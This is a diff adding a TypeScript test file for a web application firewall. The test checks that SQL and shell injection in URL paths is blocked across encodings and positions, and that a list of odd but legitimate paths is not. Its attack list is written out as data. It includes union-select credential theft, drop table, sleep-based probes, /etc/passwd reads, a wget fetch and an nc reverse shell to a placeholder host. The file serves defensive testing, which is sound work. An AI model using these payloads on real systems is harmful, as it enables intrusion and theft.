@@ -1,0 +1,156 @@
+// The second opinion over paths: injections and commands in any segment, in both engines, and odd paths of honest people.
+import t from 'tap';
+import { createMemoryStore, type Inspector, type Verdict } from '#engine';
+import { createMemoryCache, createPair } from '../../testing/rule-text.js';
+import { renderSecondOpinion } from './evidence-rules.js';
+
+/** No rule scores: what is blocked is raised. */
+const rules = `SecRuleEngine On
+SecAction "id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=1,setvar:tx.inbound_anomaly_score_threshold=5"
+${renderSecondOpinion({ second_opinion: 'enforce', sites: [] })}`;
+
+function ask(inspector: Inspector, uri: string): Verdict {
+  const head = {
+    method: 'GET',
+    uri,
+    protocol: 'HTTP/1.1',
+    headers: ['Host', 'shop.example', 'User-Agent', 'Mozilla/5.0'],
+    clientIp: '192.0.2.1',
+    clientPort: 1,
+    serverIp: '192.0.2.2',
+    serverPort: 80,
+  };
+  const environment = { uniqueId: 'x', nowMs: 0, store: createMemoryStore(), secondOpinion: 'enforce' as const };
+  const transaction = inspector.begin(head, environment);
+  if (inspector.requestHeaders(transaction) === null) inspector.requestBody(transaction, null);
+  return inspector.finish(transaction);
+}
+
+const once = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27');
+const spellings = [
+  ['as it is', (text: string) => text.replaceAll(' ', '%20').replaceAll('#', '%23').replaceAll('?', '%3F')],
+  ['encoded', once],
+  ['encoded twice', (text: string) => once(once(text))],
+  ['plus for blank', (text: string) => once(text).replaceAll('%20', '+')],
+] as const;
+const places = [
+  ['last', (text: string) => `/items/${text}`],
+  ['in the middle', (text: string) => `/items/${text}/details`],
+  ['behind a dot', (text: string) => `/items/red.lamp${text}/details.json`],
+] as const;
+
+const attacks = [
+  "1' or '1'='1",
+  "1' or 1=1--",
+  "admin'--",
+  "admin' #",
+  "x') or ('a'='a",
+  '1" or "1"="1',
+  '1 or 1=1',
+  '1 and 1=1',
+  '-1 union select 1,2,3',
+  '-1 union all select null,null--',
+  "1' union select username, password from users--",
+  "'/**/or/**/'1'='1",
+  '1/**/union/**/select/**/1,2',
+  "1'; drop table users--",
+  '1; delete from orders where 1=1',
+  "1; waitfor delay '0:0:5'--",
+  '1 and sleep(5)',
+  "1' and sleep(5)#",
+  "1' and extractvalue(1,concat(0x7e,version()))--",
+  '1 order by 3--',
+  "1'||(select version())||'",
+  '(select * from users)',
+  ';cat /etc/passwd',
+  '|cat /etc/passwd',
+  '1;id',
+  '1|whoami',
+  '1&&whoami',
+  '`id`',
+  '$(id)',
+  '$(cat /etc/passwd)',
+  ';ping -c 3 192.0.2.1',
+  ';cat${IFS}/etc/passwd',
+  ';wget http://192.0.2.1/x',
+  ';/bin/cat x',
+  '|nc 192.0.2.1 4444 -e /bin/sh',
+];
+
+const honest = [
+  "/wiki/O'Reilly",
+  "/wiki/Rock_'n'_Roll",
+  "/wiki/Rock 'n' Roll (1975)",
+  "/people/d'Artagnan/and/o'Brien",
+  "/books/Don't stop -- a story/reviews",
+  "/songs/'Til I Die",
+  '/wiki/"Weird_Al"_Yankovic',
+  '/wiki/Weird "Al" and friends',
+  '/wiki/Union_select_committee',
+  '/wiki/Union select committee',
+  '/blog/select-from-union',
+  '/blog/select-one-from-many-or-none',
+  '/blog/how-to-select-rows-from-a-table-where-id=1',
+  '/blog/drop-table-users',
+  '/wiki/Select_(SQL)',
+  '/docs/mysql/information_schema/tables',
+  '/docs/union-all-select-order-by-1',
+  '/wiki/Sleep (2013 film)',
+  '/wiki/Benchmark_(computing)',
+  '/wiki/AND_gate',
+  '/wiki/Or (heraldry)',
+  '/wiki/Black and white = grey',
+  '/search/black+and+white+or+red',
+  '/filter/size=10/and/color=red',
+  '/cars;color=red;year=2012/parts;type=wheel',
+  '/cars;jsessionid=0123ABCD/list;v=1.1',
+  '/map/@51.5,-0.12,15z',
+  "/odata/Orders(CustomerID='A',Year=2024)/Items",
+  "/odata/People('O''Neil')/Trips",
+  '/site/@@rename',
+  '/man/usr/bin/env',
+  '/notes/C# -- an overview',
+  '/tags/c%23/page/2',
+  '/tea;cat;milk',
+  '/r&b/albums',
+  '/q&a/how-to-use-cat',
+  '/a/b--c/d-e',
+  '/price/$10-$20',
+  '/wiki/100%25_(song)',
+  '/wiki/%E6%9D%B1%E4%BA%AC/%C3%A9t%C3%A9',
+  '/files/report (1) - copy.pdf',
+  '/npm/@scope%2Fname/-/name-1.0.0.tgz',
+  '/git/compare/main...feature',
+  '/time/2024-01-01T00:00:00+01:00',
+];
+
+const made = createPair(rules, createMemoryCache()).then(({ oracle, variants }) => [
+  { name: 'interpreter', inspector: oracle },
+  ...variants,
+]);
+
+t.test('issue 22 B10: SQL and commands in paths are raised, in every place and spelling', async (t) => {
+  const inspectors = await made;
+  for (const attack of attacks) {
+    const passed: string[] = [];
+    for (const [spelling, spell] of spellings)
+      for (const [place, put] of places)
+        for (const { name, inspector } of inspectors)
+          if (ask(inspector, put(spell(attack))).interruption?.ruleId !== 1_006_610)
+            passed.push(`${name}, ${spelling}, ${place}: ${put(spell(attack))}`);
+    t.strictSame(passed, [], attack);
+  }
+});
+
+t.test('issue 22 B10: odd paths of honest people are not', async (t) => {
+  const inspectors = await made;
+  for (const path of honest) {
+    const raised: string[] = [];
+    for (const uri of [path.replaceAll(' ', '%20'), `${path.replaceAll(' ', '+')}/more`])
+      for (const { name, inspector } of inspectors) {
+        const { kind, opinion } = ask(inspector, uri);
+        if (kind !== 'pass') raised.push(`${name}: ${uri} ${JSON.stringify(opinion?.features ?? [])}`);
+      }
+    t.strictSame(raised, [], path);
+  }
+});
